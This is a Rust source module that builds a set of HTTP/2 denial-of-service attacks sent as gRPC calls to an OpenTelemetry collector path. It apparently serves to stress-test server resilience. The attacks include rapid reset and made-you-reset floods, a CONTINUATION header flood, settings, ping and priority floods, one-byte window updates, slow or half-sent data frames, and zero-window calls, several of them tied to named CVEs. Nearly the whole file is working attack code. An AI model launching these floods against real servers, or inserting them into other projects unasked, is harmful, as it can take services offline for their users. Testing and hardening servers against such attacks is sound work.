//! Attacks with HTTP/2, as gRPC calls.

use std::time::Duration;

use super::{
    Attack,
    frames::{
        continuation, data, headers, literal, ping, post, preface, priority, reset, settings,
        stream, window_update,
    },
};

const WAVE: u32 = 500;
const PATH: &str = "/opentelemetry.proto.collector.trace.v1.TraceService/Export";

fn call(stream: u32, is_last: bool) -> Vec<u8> {
    headers(stream, &post(PATH, "application/grpc"), true, is_last)
}

fn streams_of(number: u32) -> impl Iterator<Item = u32> {
    (number * WAVE..(number + 1) * WAVE).map(stream)
}

/// Half a preface.
#[must_use]
pub fn half_preface(connections: usize) -> Attack {
    Attack::new("half a preface", connections, b"PRI * HTTP/2.0\r\n".to_vec())
}

/// Calls that are reset as soon as they are made (CVE-2023-44487).
#[must_use]
pub fn rapid_reset(connections: usize) -> Attack {
    Attack::new("rapid reset", connections, preface()).with_waves(|number| {
        streams_of(number).flat_map(|id| [call(id, false), reset(id)].concat()).collect()
    })
}

/// Calls that make the server reset them (CVE-2025-8671): each has a window update of 0.
#[must_use]
pub fn made_resets(connections: usize) -> Attack {
    Attack::new("made resets", connections, preface()).with_waves(|number| {
        streams_of(number).flat_map(|id| [call(id, false), window_update(id, 0)].concat()).collect()
    })
}

/// Settings that each want to be acknowledged.
#[must_use]
pub fn settings_flood(connections: usize) -> Attack {
    Attack::new("settings", connections, preface())
        .with_waves(|_| settings(&[(4, 65_535), (1, 4096)]).repeat(WAVE as usize))
}

/// Pings that each want an answer.
#[must_use]
pub fn ping_flood(connections: usize) -> Attack {
    Attack::new("pings", connections, preface()).with_waves(|_| ping().repeat(WAVE as usize))
}

/// Pings whose answers nobody reads.
#[must_use]
pub fn unread_pings(connections: usize) -> Attack {
    Attack { name: "unread pings", ..ping_flood(connections) }.deaf()
}

/// Priorities of streams that are not there.
#[must_use]
pub fn priority_flood(connections: usize) -> Attack {
    Attack::new("priorities", connections, preface())
        .with_waves(|number| streams_of(number).flat_map(priority).collect())
}

/// Window updates of one byte.
#[must_use]
pub fn window_updates(connections: usize) -> Attack {
    let opening = [preface(), call(1, false)].concat();
    Attack::new("window updates", connections, opening)
        .with_waves(|_| [window_update(1, 1), window_update(0, 1)].concat().repeat(WAVE as usize))
}

/// One header block that never ends (CVE-2024-27316).
#[must_use]
pub fn continuations(connections: usize) -> Attack {
    let opening = [preface(), headers(1, &post(PATH, "application/grpc"), false, false)].concat();
    Attack::new("continuations", connections, opening).with_waves(|_| {
        let mut block = Vec::new();
        literal(&mut block, "x-more", &"a".repeat(1000));
        continuation(1, &block).repeat(10)
    })
}

/// Frames without a byte, of a body that never ends.
#[must_use]
pub fn empty_data(connections: usize) -> Attack {
    let opening = [preface(), call(1, false)].concat();
    Attack::new("empty data", connections, opening)
        .with_waves(|_| data(1, &[], false).repeat(WAVE as usize))
}

/// Frames of one byte, of a message that never ends.
#[must_use]
pub fn tiny_data(connections: usize) -> Attack {
    let opening = [preface(), call(1, false), data(1, &[0, 0, 0x30, 0, 0], false)].concat();
    Attack::new("tiny data", connections, opening)
        .with_waves(|_| data(1, &[0], false).repeat(WAVE as usize))
}

/// As many calls as are allowed, with headers of this size, whose messages never come.
#[must_use]
pub fn open_calls(connections: usize, calls: u32, header_bytes: usize) -> Attack {
    let mut block = post(PATH, "application/grpc");
    literal(&mut block, "x-filler", &"a".repeat(header_bytes));
    let calls = (0..calls).flat_map(|number| headers(stream(number), &block, true, false));
    Attack::new("open calls", connections, preface().into_iter().chain(calls).collect())
}

/// Messages that are announced, and of which one more byte comes now and then.
#[must_use]
pub fn slow_messages(connections: usize) -> Attack {
    let opening = [preface(), call(1, false), data(1, &[0, 0, 0x30, 0, 0], false)].concat();
    Attack::new("slow messages", connections, opening)
        .with_waves(|_| data(1, &[0], false))
        .every(Duration::from_millis(50))
}

/// Frames of half a MiB of which half comes.
#[must_use]
pub fn half_frames(connections: usize) -> Attack {
    let frame = data(1, &vec![0; 512 << 10], false);
    let opening = [preface(), call(1, false), frame[..256 << 10].to_vec()].concat();
    Attack::new("half frames", connections, opening)
}

/// Calls whose answers have no window to come through.
#[must_use]
pub fn no_window(connections: usize) -> Attack {
    let opening = [preface(), settings(&[(4, 0)])].concat();
    Attack::new("no window", connections, opening)
        .with_waves(|number| {
            let empty = [0; 5];
            streams_of(number)
                .flat_map(|id| [call(id, false), data(id, &empty, true)].concat())
                .collect()
        })
        .every(Duration::from_millis(100))
}
